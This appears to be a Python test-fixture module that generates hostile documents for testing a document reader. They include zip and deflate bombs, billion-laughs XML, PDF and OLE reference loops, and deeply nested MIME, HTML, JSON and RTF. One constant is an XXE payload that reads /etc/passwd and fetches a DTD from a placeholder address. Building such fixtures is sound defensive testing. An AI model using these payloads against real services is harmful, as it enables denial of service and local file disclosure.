"""Documents that are made to hurt: bombs, loops, lies about sizes. Small on disk, all of them made here."""

import functools
import gzip
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.readers import makers


@dataclass(frozen=True)
class Hostile:
    """A document, and the reasons of which one must be given; `whole`: it may also be read to its end."""

    make: Callable[[], bytes]
    reasons: str
    whole: bool = False


@functools.cache
def zeros(megabytes: int) -> bytes:
    """Zeros as a raw deflate stream."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()


def entry(name: bytes, data: bytes, size: int, crc: int, at: int) -> tuple[bytes, bytes]:
    """A zip member's local record and its directory record, deflated."""
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
    return b"PK\3\4" + common + name + data, b"PK\1\2\x14\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, at) + name


def closed(body: bytes, directory: bytes, count: int) -> bytes:
    """A zip's end; with more than 65,535 members in the 64-bit form."""
    at, size = len(body), len(directory)
    if count < 0xFFFF:
        return body + directory + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, size, at, 0)
    end = b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, size, at)
    locator = b"PK\6\7" + struct.pack("<IQI", 0, at + size, 1)
    return body + directory + end + locator + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, size, at, 0)


def huge_member() -> bytes:
    data = zeros(300)
    local, record = entry(b"a.txt", data, 300 << 20, 0, 0)
    return closed(local, record, 1)


def many_members() -> bytes:
    local, _ = entry(b"a", b"\3\0", 0, 0, 0)
    directory = b"".join(entry(b"%06d" % n, b"\3\0", 0, 0, 0)[1] for n in range(1_000_000))
    return closed(local, directory, 1_000_000)


def overlapping() -> bytes:
    """Three hundred members that share one kernel of compressed data (each promises 15 MB)."""
    data = zeros(15)
    crc = zlib.crc32(bytes(15 << 20))
    local, _ = entry(b"a.txt", data, 15 << 20, crc, 0)
    directory = b"".join(entry(b"a.txt", data, 15 << 20, crc, 0)[1] for _ in range(300))
    return closed(local, directory, 300)


def nested_zips(width: int = 12, levels: int = 6) -> bytes:
    """A tree of archives: width to the power of levels members, of a few kilobytes on disk."""
    data = makers.zipped({"a.txt": "客户资料" * 50_000})
    for _ in range(levels):
        data = makers.zipped({f"{n}.zip": data for n in range(width)})
    return data


def lying_member() -> bytes:
    """A member that says it holds ten bytes and holds forty megabytes."""
    local, record = entry(b"a.txt", zeros(40), 10, 0, 0)
    return closed(local, record, 1)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "哈">{LAUGHS}]>'
FILE = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">]>'


def office(document: str) -> bytes:
    return makers.zipped(
        {"[Content_Types].xml": makers.CONTENT_TYPES.format(main="word/document.xml"), "word/document.xml": document}
    )


def docx_with(dtd: str) -> bytes:
    return office(
        f'<?xml version="1.0"?>{dtd}<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>'
    )


def deep_docx() -> bytes:
    depth = 200_000
    return office(
        f'<w:document xmlns:w="w"><w:body>{"<w:tbl><w:tr><w:tc>" * depth}{"</w:tc></w:tr></w:tbl>" * depth}</w:body></w:document>'
    )


def svg() -> bytes:
    return f'<?xml version="1.0"?>{LAUGHS}<svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>'.encode()


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from one; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
    return bytes(out) + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def pdf_page_cycle() -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 9>>",
        b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>",
    )


def pdf_many_pages() -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>",
        b"<</Type/Page/Parent 2 0 R>>",
    )


def pdf_empty_pages() -> bytes:
    """A page that is listed a hundred thousand times."""
    kids = b"3 0 R " * 100_000
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def pdf_stream_cycle() -> bytes:
    """An object stream that says it extends itself, whose length is an object inside it."""
    loop = b"<</Type/ObjStm/N 1/First 4/Extends 3 0 R/Length 5 0 R>>\nstream\n5 0 5 0 R\nendstream"
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        loop,
        b"<</Type/Page/Parent 2 0 R/Contents 3 0 R>>",
        b"5 0 R",
    )


def pdf_form_cycle() -> bytes:
    form = stream(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>", b"/F Do " * 50)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>/Contents 5 0 R>>"
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, form, stream(b"", b"/F Do")
    )


def pdf_deflate_bomb() -> bytes:
    data = zlib.compress(zlib.compress(b"BT (x) Tj ET " * (16 << 20), 9), 9)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    body = stream(b"/Filter[/FlateDecode/FlateDecode]", data)
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, body)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def png_bomb() -> bytes:
    return png(50_000, 50_000, b"\x78\xda" + zeros(300) + bytes(4))


def png_text_bomb() -> bytes:
    """A compressed comment of hundreds of megabytes."""
    comment = chunk(b"zTXt", b"Comment\0\0\x78\xda" + zeros(300))
    whole = makers.png(20, 20)
    return whole[:33] + comment + whole[33:]


def mime(levels: int) -> bytes:
    head = b"From: a@b.cn\r\nTo: a@b.cn\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    parts = [b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(levels)]
    return head + b"".join(parts) + b"Content-Type: text/plain\r\n\r\nx\r\n"


def mime_messages(levels: int) -> bytes:
    head = b"From: a@b.cn\r\nTo: a@b.cn\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    return (head + b"Content-Type: message/rfc822\r\n\r\n") * levels + head + b"\r\nx"


def sheet(xml: str, strings: str = "") -> bytes:
    """A workbook of one sheet given as XML."""
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    types = f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{kinds}sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="{kinds}sharedStrings+xml"/></Types>'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return makers.zipped({
        "[Content_Types].xml": types,
        "_rels/.rels": rels.format(f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'),
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": rels.format(f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>'),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}">{xml}</worksheet>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}">{strings}</sst>',
    })  # fmt: skip


def cell(place: str, value: str, kind: str = "n") -> str:
    return f'<c r="{place}" t="{kind}"><v>{value}</v></c>'


def sparse_sheet() -> bytes:
    rows = f'<row r="1">{cell("A1", "13900139001")}</row><row r="1048576">{cell("XFD1048576", "7")}</row>'
    return sheet(f'<dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData>')


def shared_strings_bomb() -> bytes:
    rows = "".join(f'<row r="{n}">{cell(f"A{n}", "0", "s")}</row>' for n in range(1, 50_001))
    return sheet(f"<sheetData>{rows}</sheetData>", f"<si><t>{'x' * 200_000}</t></si>")


def ole_cycle() -> bytes:
    """Sectors whose chains lead back to themselves, in the table, the directory and the DIFAT."""
    raw = bytearray(makers.ole("WordDocument"))
    raw[44:48] = struct.pack("<I", 0x7FFFFFFF)  # number of FAT sectors
    raw[68:76] = struct.pack("<II", 0, 0x7FFFFFFF)  # first DIFAT sector, and how many
    raw[512:520] = struct.pack("<II", 0, 1)  # sector 0 follows 0, 1 follows 1
    return bytes(raw)


def ole_huge_directory() -> bytes:
    """A directory that its own siblings make a loop of, and a chain of a million sectors."""
    raw = bytearray(makers.ole(*["WordDocument", "b"]))
    directory = 1024
    raw[directory + 128 + 68 : directory + 128 + 80] = struct.pack("<III", 1, 1, 0)
    raw[512:1024] = struct.pack("<I", 0xFFFFFFFD) + struct.pack("<127I", *range(2, 129))
    return bytes(raw) + bytes(128 * 512)


def tar(size: bytes) -> bytes:
    head = bytearray(512)
    head[:5], head[100:108], head[124:136], head[156:157] = b"a.txt", b"0000644\0", size, b"0"
    head[257:265] = b"ustar\x0000"
    head[148:156] = b"%06o\0 " % (sum(head) + 8 * 32)
    return bytes(head) * 2 + bytes(1024)


def html(tag: str, depth: int) -> bytes:
    return f"<!doctype html><html><body>{f'<{tag}>' * depth}13900139001".encode()


def rtf(depth: int) -> bytes:
    return b"{\\rtf1 " + b"{\\b " * depth + b"x" + b"}" * depth + b"}"


DOCUMENTS = {
    "nested zips": Hostile(nested_zips, "bomb too_large timeout"),
    "one huge member": Hostile(huge_member, "bomb too_large"),
    "a million members": Hostile(many_members, "bomb"),
    "overlapping members": Hostile(overlapping, "bomb corrupt"),
    "a member that lies": Hostile(lying_member, "bomb corrupt too_large"),
    "billion laughs in docx": Hostile(lambda: docx_with(LAUGHS), "bomb corrupt"),
    "billion laughs in svg": Hostile(svg, "bomb corrupt unsupported", whole=True),
    "a docx that asks for a file": Hostile(lambda: docx_with(FILE), "bomb corrupt"),
    "a docx nested 200,000 deep": Hostile(deep_docx, "too_deep corrupt bomb", whole=True),
    "a circle of pages": Hostile(pdf_page_cycle, "corrupt", whole=True),
    "two billion pages": Hostile(pdf_many_pages, "corrupt too_large bomb", whole=True),
    "one page, 100,000 times": Hostile(pdf_empty_pages, "corrupt too_large bomb timeout", whole=True),
    "a circle of object streams": Hostile(pdf_stream_cycle, "corrupt", whole=True),
    "a circle of forms": Hostile(pdf_form_cycle, "corrupt scanned timeout memory", whole=True),
    "a deflated pdf": Hostile(pdf_deflate_bomb, "bomb memory timeout corrupt too_large", whole=True),
    "a deflated png": Hostile(png_bomb, "scanned bomb too_large"),
    "a deflated comment in a png": Hostile(png_text_bomb, "scanned bomb too_large"),
    "60,000 pixels square": Hostile(lambda: png(60_000, 60_000, b""), "scanned bomb too_large corrupt"),
    "zeros in gz": Hostile(lambda: gzip.compress(bytes(300 << 20), 9), "bomb too_large unsupported"),
    "mime 10,000 deep": Hostile(lambda: mime(10_000), "too_deep corrupt bomb"),
    "messages 10,000 deep": Hostile(lambda: mime_messages(10_000), "too_deep corrupt bomb"),
    "html 100,000 deep": Hostile(lambda: html("div", 100_000), "too_deep corrupt", whole=True),
    "tables 100,000 deep": Hostile(lambda: html("table><tr><td", 30_000), "too_deep corrupt", whole=True),
    "json 100,000 deep": Hostile(lambda: b'{"a":[' * 100_000, "too_deep corrupt", whole=True),
    "rtf 100,000 deep": Hostile(lambda: rtf(100_000), "too_deep corrupt unsupported", whole=True),
    # native code that is refused memory may end its process before any of it was used
    "two cells, a world apart": Hostile(sparse_sheet, "bomb memory too_large corrupt crash", whole=True),
    "one string, shared 50,000 times": Hostile(shared_strings_bomb, "bomb too_large memory"),
    "ole in circles": Hostile(ole_cycle, "corrupt unsupported"),
    "an endless ole directory": Hostile(ole_huge_directory, "corrupt unsupported"),
    "tar, a negative size": Hostile(lambda: tar(b"\xff" * 12), "corrupt unsupported"),
    "tar, an endless size": Hostile(lambda: tar(b"\x80" + b"\x7f" * 11), "corrupt too_large unsupported"),
}  # fmt: skip

SMALL = (overlapping, svg, pdf_page_cycle, pdf_many_pages, pdf_stream_cycle, ole_cycle, ole_huge_directory)
"""Makers of documents that cost nothing to make and little to read."""

TEXTS = {
    "quotes": '"' * 1_000_000,
    "quotes that do not close": '"a,' * 300_000,
    "blanks": " " * 1_000_000,
    "line ends": "\n" * 1_000_000,
    "colons": "a:" * 500_000,
    "headers": "From: a\nTo:b\n" * 80_000,
    "angles": "<" * 1_000_000,
    "tabs": "\t" * 1_000_000,
    "surrogates": "\ufffd" * 300_000,
    "invisible": "\u200b" * 300_000,
    "multipart": "Content-Type: multipart/" * 40_000,
    "encoded words": "Subject: " + "=?utf-8?b?" * 50_000 + "\nFrom: a@b.cn\n\nx",
    "charset": "<html><meta charset=" + "x" * 500_000,
}


def write_sparse_text(path: Path, size: int) -> None:
    """A text of a megabyte that is followed by a hole."""
    with path.open("wb") as out:
        out.write("手机13900139001\n".encode() * 50_000)
        out.truncate(size)
